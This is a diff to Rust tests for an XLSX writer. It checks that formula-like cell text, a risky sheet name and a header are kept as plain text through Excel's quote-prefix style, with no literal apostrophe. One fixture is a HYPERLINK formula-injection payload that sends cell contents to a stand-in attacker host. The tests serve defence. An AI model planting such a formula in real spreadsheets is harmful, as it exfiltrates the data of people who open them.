@@ -47,7 +47,7 @@ fn headers_and_typed_values_read_back() {
     // Beyond what a double or Excel's calendar holds: exact text instead.
     assert_eq!(cell(v, 4, 1), Data::String(i64::MAX.to_string()));
     assert_eq!(cell(v, 4, 4), Data::String("1899-12-31".into()));
-    assert_eq!(cell(v, 4, 5), Data::String("'+10000-01-01 12:00".into()));
+    assert_eq!(cell(v, 4, 5), Data::String("+10000-01-01 12:00".into()));
     assert_eq!(cell(v, 4, 3), Data::Float(-0.005));
 }
 
@@ -75,11 +75,13 @@ fn formula_like_text_stays_text() {
     let back = read_xlsx(&bytes);
     assert_eq!(
         cell(&back.values, 2, 0),
-        Data::String("'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".into())
+        Data::String("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".into())
     );
-    assert_eq!(cell(&back.values, 4, 0), Data::String("'+7 916 123-45-67".into()));
+    assert_eq!(cell(&back.values, 4, 0), Data::String("+7 916 123-45-67".into()));
     assert!(back.formulas.used_cells().all(|(_, _, formula)| formula.is_empty()), "no formulas at all");
     assert!(!xlsx_part(&bytes, "xl/worksheets/sheet1.xml").contains("<f>"));
+    // No literal `'` in the cell: Excel's quote-prefix style keeps it text when edited.
+    assert!(xlsx_part(&bytes, "xl/styles.xml").contains(r#"quotePrefix="1""#));
 }
 
 #[test]
@@ -146,7 +148,7 @@ fn sheet_name_is_repaired() {
     let back = read_xlsx(&bytes);
     assert_eq!(back.sheet_names, ["Отчёт 01_2025_ O'Brien _Q1_"]);
     // Headers are neutralised too: they may one day be user-named custom fields.
-    assert_eq!(cell(&back.values, 0, 0), Data::String("'=x".into()));
+    assert_eq!(cell(&back.values, 0, 0), Data::String("=x".into()));
 }
 
 #[test]
